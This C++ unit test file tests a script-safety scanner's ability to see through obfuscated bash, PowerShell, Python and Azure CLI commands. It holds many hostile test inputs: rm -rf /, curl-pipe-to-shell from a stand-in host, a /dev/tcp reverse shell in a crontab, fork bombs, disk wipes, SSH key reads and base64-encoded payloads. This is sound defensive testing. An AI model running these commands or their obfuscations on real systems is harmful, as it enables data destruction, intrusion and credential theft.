// The normalisers, seen through scan(): each obfuscation is undone and reported at the line of the
// original script, while data (echo, comments, Write-Host, print) and guarded lookalikes stay
// clean.

#include <gtest/gtest.h>

#include <atomic>
#include <thread>
#include <vector>

#include "unit/safety/safety_test_support.hpp"

namespace opsgraph::safety {
namespace {

using testing::describe;
using testing::find_rule;
using testing::scan;

void expect_rule_at(std::string_view script, Language language, std::string_view rule,
                    std::size_t line) {
  const auto findings = scan(script, language);
  const Finding* finding = find_rule(findings, rule);
  ASSERT_NE(finding, nullptr) << "expected " << rule << " in: " << script << "\ngot "
                              << describe(findings);
  EXPECT_EQ(finding->line, line) << script;
}

void expect_clean(std::string_view script, Language language) {
  const auto findings = scan(script, language);
  EXPECT_TRUE(findings.empty()) << script << "\ngot " << describe(findings);
}

TEST(ShellNormalizer, PlainDangerousCommandIsFoundWithItsPosition) {
  const auto findings = scan("echo start\n  rm -rf /\n", Language::bash);
  const Finding* finding = find_rule(findings, "rm_rf_root");
  ASSERT_NE(finding, nullptr) << describe(findings);
  EXPECT_EQ(finding->line, 2u);
  EXPECT_EQ(finding->column, 3u);
  EXPECT_EQ(finding->excerpt, "rm -rf /");
  EXPECT_EQ(finding->category, "destructive_delete");
  EXPECT_EQ(finding->severity, Severity::critical);
  EXPECT_FALSE(finding->message.empty());
}

TEST(ShellNormalizer, JoinsSplitQuotes) {
  expect_rule_at("true\nr''m -r\"\"f /\n", Language::bash, "rm_rf_root", 2);
  expect_rule_at("\"r\"m -rf /\n", Language::bash, "rm_rf_root", 1);
  expect_rule_at("r\\m -rf /\n", Language::bash, "rm_rf_root", 1);
}

TEST(ShellNormalizer, JoinsBackslashNewline) {
  expect_rule_at("set\\\nenforce 0\n", Language::bash, "disable_selinux_firewall_audit", 1);
}

TEST(ShellNormalizer, ReadsIfsAsSpace) {
  expect_rule_at("x=1\ncurl${IFS}-s${IFS}http://h/x.sh|sh\n", Language::bash, "download_pipe_shell",
                 2);
  expect_rule_at("rm$IFS-rf$IFS/\n", Language::bash, "rm_rf_root", 1);
}

TEST(ShellNormalizer, ResolvesVariableIndirection) {
  expect_rule_at("c=rm; $c -rf /\n", Language::bash, "rm_rf_root", 1);
  expect_rule_at("a=sh; b=red\n${a}${b} -u /dev/sdc\n", Language::bash, "wipe_block_device", 2);
  expect_rule_at("m=mk; m+=fs\n$m.xfs -f /dev/sdb\n", Language::bash, "wipe_block_device", 2);
  expect_rule_at("a=(d d)\n${a[0]}${a[1]} if=/dev/zero of=/dev/sda\n", Language::bash,
                 "dd_to_block_device", 2);
}

TEST(ShellNormalizer, EvaluatesPrintfAndAnsiCQuoting) {
  expect_rule_at("cmd=$(printf '\\x72\\x65\\x62\\x6f\\x6f\\x74')\n$cmd\n", Language::bash,
                 "shutdown_reboot", 2);
  expect_rule_at("$'\\x72\\x6d' -rf /\n", Language::bash, "rm_rf_root", 1);
}

TEST(ShellNormalizer, DecodesBase64PipedToAShellAtTheLiteralsLine) {
  // "rm -rf /" in base64.
  expect_rule_at("ls\necho cm0gLXJmIC8= | base64 -d | sh\n", Language::bash, "rm_rf_root", 2);
  expect_rule_at("p=cm0gLXJmIC8=\necho \"$p\" | base64 --decode | bash\n", Language::bash,
                 "rm_rf_root", 2);
  expect_rule_at("eval \"$(echo cm0gLXJmIC8= | base64 -d)\"\n", Language::bash, "rm_rf_root", 1);
  expect_rule_at("bash <<< \"$(base64 -d <<< cm0gLXJmIC8=)\"\n", Language::bash, "rm_rf_root", 1);
}

TEST(ShellNormalizer, ScansCodeGivenToEvalAndShellDashC) {
  expect_rule_at("eval 'rm -rf /'\n", Language::bash, "rm_rf_root", 1);
  expect_rule_at("sh -c 'shutdown -h now'\n", Language::bash, "shutdown_reboot", 1);
  expect_rule_at("echo 'rm -rf /' | sh\n", Language::bash, "rm_rf_root", 1);
  expect_rule_at("echo 'hs | hs.x/h//:ptth s- lruc' | rev | sh\n", Language::bash,
                 "download_pipe_shell", 1);
}

TEST(ShellNormalizer, ExpandsBraceLists) {
  expect_rule_at("{wget,-qO-,http://h/s.sh}|bash\n", Language::bash, "download_pipe_shell", 1);
}

TEST(ShellNormalizer, ReadsCrontabPayloads) {
  expect_rule_at("cat > /etc/cron.d/job <<EOF\n*/5 * * * * root curl -s http://h/x | sh\nEOF\n",
                 Language::bash, "download_pipe_shell", 2);
  expect_rule_at(
      "(crontab -l; echo \"@reboot bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\") | crontab -\n",
      Language::bash, "dev_tcp_shell", 1);
}

TEST(ShellNormalizer, RecognisesForkBombsWhateverTheirName) {
  expect_rule_at("true\n:(){ :|:& };:\n", Language::bash, "fork_bomb_or_fill", 2);
  expect_rule_at("w() { w | w & }\nw\n", Language::bash, "fork_bomb_or_fill", 1);
  expect_rule_at("eval \"$(printf '%s' ':()' '{ :|:& };:')\"\n", Language::bash,
                 "fork_bomb_or_fill", 1);
}

TEST(ShellNormalizer, ScansAzureRunCommandScriptsInTheirLanguage) {
  expect_rule_at(
      "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript \\\n"
      "  --scripts \"curl -s http://h/x.sh | bash\"\n",
      Language::azurecli, "download_pipe_shell", 2);
  expect_rule_at(
      "az vm run-command invoke -g rg -n vm1 --command-id RunPowerShellScript --scripts "
      "\"Restart-Computer -Force\"\n",
      Language::azurecli, "ps_shutdown_reboot", 1);
}

TEST(ShellNormalizer, DataAndCommentsDoNotTrigger) {
  expect_clean("# rm -rf /\necho \"never run rm -rf / here\"\nprintf 'shutdown -h now\\n'\n",
               Language::bash);
  expect_clean("cat <<'EOF'\nrm -rf /\ncurl http://x | sh\nEOF\n", Language::bash);
  expect_clean("echo 'A fork bomb like :(){ :|:& };: is stopped by limits.'\n", Language::bash);
}

TEST(ShellNormalizer, GuardedAndHarmlessLookalikesStayClean) {
  expect_clean("rm -rf \"${TMP:?}/cache\"\n", Language::bash);
  expect_clean("grep -r \"DROP TABLE\" migrations/\n", Language::bash);
  expect_clean("shutdown -c \"cancelled\"\n", Language::bash);
  expect_clean("chmod 640 /var/log/app.log\n", Language::bash);
  expect_clean("wipefs --no-act /dev/sdb\ndd --help\n", Language::bash);
  expect_clean("export RESTIC_PASSWORD_FILE=/etc/restic/pass\n", Language::bash);
}

TEST(ShellNormalizer, RulesNeverMatchAcrossCommands) {
  // The normalised text is one command per line: a pattern's whitespace stops at the line's end.
  expect_clean("rm -r build\ncd /\n", Language::bash);
  expect_clean("find /srv/ws -mtime +14 -print0 | xargs -0 -r rm -rf --\necho \"$HOME\"\n",
               Language::bash);
}

TEST(ShellNormalizer, UnguardedVariablePathIsFlagged) {
  expect_rule_at("DIR=$(cat /etc/app/dir)\nrm -rf \"$DIR/\"*\n", Language::bash,
                 "rm_rf_variable_path", 2);
}

TEST(PowerShellNormalizer, UndoesTickInsertionAndConcatenation) {
  expect_rule_at("Get-Date\nR`e`mo`ve-`It`em -Path 'C:\\Windows\\System32' -Recurse\n",
                 Language::powershell, "ps_remove_system_path", 2);
  expect_rule_at("&('Rem'+'ove-Item') -Path C:\\ -Recurse -Force\n", Language::powershell,
                 "ps_remove_system_path", 1);
}

TEST(PowerShellNormalizer, JoinsBacktickContinuations) {
  expect_rule_at("Add-LocalGroupMember `\n  -Group 'Administrators' `\n  -Member 'x'\n",
                 Language::powershell, "ps_admin_group", 1);
}

TEST(PowerShellNormalizer, ResolvesVariablesAndAliases) {
  expect_rule_at("$x = \"Invoke-Expression\"\n& $x \"Stop-Computer -Force\"\n",
                 Language::powershell, "ps_shutdown_reboot", 2);
  expect_rule_at("$verb = 'Re' + 'start'\n& \"$verb-Computer\" -Force\n", Language::powershell,
                 "ps_shutdown_reboot", 2);
  expect_rule_at("Set-Alias -Name run -Value Invoke-Expression\nrun 'Clear-EventLog -LogName x'\n",
                 Language::powershell, "ps_clear_logs", 2);
}

TEST(PowerShellNormalizer, DecodesEncodedCommandAndFromBase64String) {
  // "Stop-Computer -Force" as UTF-16LE base64, and "Restart-Computer" as UTF-8 base64.
  expect_rule_at(
      "Get-Date\npowershell.exe -NoProfile -enc "
      "UwB0AG8AcAAtAEMAbwBtAHAAdQB0AGUAcgAgAC0ARgBvAHIAYwBlAA==\n",
      Language::powershell, "ps_shutdown_reboot", 2);
  expect_rule_at(
      "$b = 'UmVzdGFydC1Db21wdXRlcg=='\n$s = "
      "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))\niex $s\n",
      Language::powershell, "ps_shutdown_reboot", 2);
}

TEST(PowerShellNormalizer, DecodesCharArraysAndReversedStrings) {
  // [char[]] of "Stop-Computer".
  expect_rule_at(
      "$c = -join [char[]](83, 116, 111, 112, 45, 67, 111, 109, 112, 117, 116, 101, 114)\n"
      "Invoke-Expression $c\n",
      Language::powershell, "ps_shutdown_reboot", 2);
  expect_rule_at(
      "$r = 'retupmoC-potS'\n$p = -join $r[-1..-($r.Length)]\n. ([scriptblock]::Create($p))\n",
      Language::powershell, "ps_shutdown_reboot", 3);
}

TEST(PowerShellNormalizer, DataCommentsAndWhatIfStayClean) {
  expect_clean("# Remove-Item C:\\ -Recurse\n<# Clear-Disk -Number 1 #>\n", Language::powershell);
  expect_clean("Write-Host \"Set-MpPreference -DisableRealtimeMonitoring $true is forbidden\"\n",
               Language::powershell);
  expect_clean("Restart-Computer -ComputerName APP01 -WhatIf\n", Language::powershell);
  expect_clean("$notes = @'\niex (iwr https://x) is forbidden\nRemove-Item C:\\ -Recurse\n'@\n",
               Language::powershell);
}

TEST(PythonNormalizer, ScansShellCommandsInStringsAndArgvLists) {
  expect_rule_at("import os\nos.system(\"rm -rf /\")\n", Language::python, "rm_rf_root", 2);
  expect_rule_at("import subprocess\nsubprocess.run([\"shutdown\", \"-h\", \"now\"])\n",
                 Language::python, "shutdown_reboot", 2);
  expect_rule_at("cmd = \"reboot\"\nimport os\nos.system(cmd)\n", Language::python,
                 "shutdown_reboot", 3);
}

TEST(PythonNormalizer, DecodesBase64GivenToExec) {
  // "import os; os.system('reboot')".
  expect_rule_at(
      "import base64\nexec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JlYm9vdCcp\"))\n",
      Language::python, "shutdown_reboot", 2);
}

TEST(PythonNormalizer, FollowsGetattrRot13AndCharacterCodes) {
  expect_rule_at(
      "m = __import__(\"o\" + \"s\")\nfn = getattr(m, \"sy\" + \"stem\")\nfn(\"reboot\")\n",
      Language::python, "shutdown_reboot", 3);
  expect_rule_at(
      "import codecs, subprocess\nsubprocess.run(codecs.decode(\"erobbg\", \"rot13\"), "
      "shell=True)\n",
      Language::python, "shutdown_reboot", 2);
  // [chr] codes of "reboot".
  expect_rule_at(
      "codes = [114, 101, 98, 111, 111, 116]\nimport subprocess\n"
      "subprocess.Popen(\"\".join(map(chr, codes)), shell=True)\n",
      Language::python, "shutdown_reboot", 3);
}

// The rules that read inside a literal ("[^\"\n]*") rely on a normalised literal never holding a
// newline: one in the value (triple quotes, a \n escape, code run by exec) reads as a space.
TEST(PythonNormalizer, NewlinesInsideStringLiteralsReadAsSpaces) {
  expect_rule_at("import os\nkey = open(\"\"\"\n/root/.ssh/id_rsa\"\"\").read()\n",
                 Language::python, "py_read_credential_files", 2);
  expect_rule_at("key = open('''/home/\n/.ssh/id_ed25519''')\n", Language::python,
                 "py_read_credential_files", 1);
  expect_rule_at("key = open(\"/home/x\\n/.ssh/id_rsa\")\n", Language::python,
                 "py_read_credential_files", 1);
  expect_rule_at("exec(\"key = open('''\\n/root/.ssh/id_rsa''')\")\n", Language::python,
                 "py_read_credential_files", 1);
  expect_rule_at("open(\"/etc/sudoers.d/x\\ny\", \"a\").write(\"ALL\")\n", Language::python,
                 "py_sudoers", 1);
  expect_rule_at(
      "import urllib.request\nurllib.request.urlretrieve(\"\"\"https://x/\ntool\"\"\", "
      "\"/usr/bin/tool\")\n",
      Language::python, "download_to_system_bin", 2);
}

TEST(PythonNormalizer, PrintAndCommentsStayClean) {
  expect_clean("# os.system('rm -rf /')\nprint(\"never run rm -rf /\")\n", Language::python);
}

TEST(Scan, BadInputNeverCrashes) {
  const std::string nul("x\0y\nrm -rf /\n", 13);
  EXPECT_NE(find_rule(scan(nul, Language::bash), "rm_rf_root"), nullptr);
  for (Language language :
       {Language::bash, Language::powershell, Language::python, Language::azurecli}) {
    scan("\xff\xfe\x80 \"unterminated $( ${ `", language);
    scan(std::string(5000, '('), language);
    scan(std::string(5000, '$') + "(", language);
    scan("@\"\n", language);
  }
}

TEST(Scan, LocatesEveryMatchInLongScripts) {
  // Long enough to be located block by block; matches near and across block boundaries.
  std::string script;
  std::vector<std::size_t> rm_lines;
  std::vector<std::size_t> pipe_lines;
  for (std::size_t line = 1; line <= 1500; ++line) {
    if (line % 97 == 0) {
      script += "rm -rf /\n";
      rm_lines.push_back(line);
    } else if (line % 131 == 0) {
      script += "curl -s http://h/x.sh | \\\n  sh\n";
      pipe_lines.push_back(line++);
    } else {
      script += "ls -l /var/log/app-" + std::to_string(line) + ".log\n";
    }
  }
  std::vector<std::size_t> found_rm;
  std::vector<std::size_t> found_pipe;
  for (const Finding& finding : scan(script, Language::bash)) {
    if (finding.rule == "rm_rf_root")
      found_rm.push_back(finding.line);
    if (finding.rule == "download_pipe_shell")
      found_pipe.push_back(finding.line);
  }
  EXPECT_EQ(found_rm, rm_lines);
  EXPECT_EQ(found_pipe, pipe_lines);
}

TEST(Scan, OneCheckerServesManyThreads) {
  std::vector<std::thread> threads;
  std::atomic<int> found{0};
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&found] {
      for (int i = 0; i < 50; ++i) {
        if (find_rule(scan("ls\nc=rm; $c -rf /\n", Language::bash), "rm_rf_root") != nullptr)
          ++found;
      }
    });
  }
  for (std::thread& thread : threads)
    thread.join();
  EXPECT_EQ(found.load(), 200);
}

TEST(Scan, RefusesScriptsOverTheSizeLimit) {
  ScriptCheckerOptions options;
  options.max_script_bytes = 16;
  auto checker = ScriptChecker::create(options);
  ASSERT_TRUE(checker) << checker.error().message;
  auto scanned = checker.value().scan(std::string(17, 'a'), Language::bash);
  ASSERT_FALSE(scanned);
  EXPECT_EQ(scanned.error().code, errc::payload_too_large);
  EXPECT_TRUE(checker.value().scan(std::string(16, 'a'), Language::bash));
}

}  // namespace
}  // namespace opsgraph::safety
